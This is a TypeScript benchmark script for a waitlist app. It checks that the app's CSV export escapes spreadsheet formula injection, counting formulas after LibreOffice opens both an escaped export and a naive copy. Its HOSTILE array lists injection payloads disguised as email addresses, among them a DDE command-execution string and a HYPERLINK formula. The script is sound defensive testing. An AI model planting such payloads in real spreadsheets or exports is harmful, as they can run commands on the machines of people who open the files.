import { execFileSync, spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { migrate } from '#src/db/migrate.ts'
import { openStorage, readStorageUrl } from '#src/db/storage.ts'
import { WAITLIST_INSERT } from '#src/waitlist/server/member/personal-data.ts'
import { testEntry } from '#test/support/list/test-entry.ts'

/**
 * `npm run bench -- spreadsheet`: opens an export in LibreOffice, as an example of a spreadsheet, and counts the
 * formulas that it finds there. Not part of `npm test`, because LibreOffice is large; if it is missing, prints how to
 * install it.
 */

/** Addresses that the site accepts, but that a spreadsheet would take for formulas. */
const HOSTILE = [
  '=1+1@x.uk',
  '=cmd|"/c".calc!a0@x.uk',
  '+1+1@x.uk',
  '-1-1@x.uk',
  '=HYPERLINK("http://x.uk/"&a1;"open")@x.uk',
  'a";=1+1;"@x.uk',
  "'=1+1@x.uk",
  '＝1+1@x.uk',
]
/** The separators between cells in different countries, as character codes, for LibreOffice's filter. */
const SEPARATORS = { comma: '44', semicolon: '59', tab: '9' }

const soffice = findLibreOffice()
if (!soffice) {
  console.error(
    'NOT CHECKED: there is no LibreOffice. apt-get install --no-install-recommends libreoffice-calc',
  )
  process.exit(1)
}
const folder = mkdtempSync(join(tmpdir(), 'kerbside-spreadsheet-'))
try {
  const version = execFileSync(soffice, ['--version'], { encoding: 'utf8' }).trim().split(' ', 2).join(' ')
  const list = join(folder, 'list.csv')
  writeFileSync(list, await exportHostile())
  const naive = join(folder, 'naive.csv')
  writeFileSync(naive, HOSTILE.map(email => `${email.replaceAll('"', '').replace(/@.*/, '')}\n`).join(''))
  const seen = formulasIn(naive, SEPARATORS.comma)
  console.log(`${version}: ${seen} formulas in ${HOSTILE.length} unescaped cells`)
  let found = 0
  for (const [name, code] of Object.entries(SEPARATORS)) {
    const formulas = formulasIn(list, code)
    console.log(
      `${version}: ${formulas} formulas in the export of the same, opened with ${name} between cells`,
    )
    found += formulas
  }
  if (!seen) console.error('The check finds no formula where there are some: it proves nothing.')
  process.exitCode = found || !seen ? 1 : 0
} finally {
  rmSync(folder, { recursive: true })
}

async function exportHostile(): Promise<string> {
  const url = `sqlite:${join(folder, 'list.db')}`
  const database = openStorage(readStorageUrl(url)!)
  await migrate(database)
  const row = (email: string, i: number) => testEntry(email, { referral_code: `-${i}`, referred_by: '-1-1' })
  await database.insertMissing(WAITLIST_INSERT, HOSTILE.map(row))
  await database.close()
  const words = ['src/founder/terminal/main.js', 'export', '--csv']
  return execFileSync(process.execPath, words, {
    encoding: 'utf8',
    env: { ...process.env, DATABASE_URL: url },
  })
}

function formulasIn(file: string, separator: string): number {
  const { status, stderr } = spawnSync(soffice!, [
    `-env:UserInstallation=file://${join(folder, 'profile')}`,
    '--headless',
    '--convert-to',
    'fods',
    '--outdir',
    folder,
    `--infilter=CSV:${separator},34,76,1`,
    file,
  ])
  if (status !== 0) throw new Error(`LibreOffice cannot open ${file}: ${stderr}`)
  const sheet = readFileSync(file.replace(/csv$/, 'fods'), 'utf8')
  return sheet.match(/table:formula=/g)?.length ?? 0
}

function findLibreOffice(): string | undefined {
  return ['soffice', 'libreoffice'].find(name => spawnSync('which', [name]).status === 0)
}
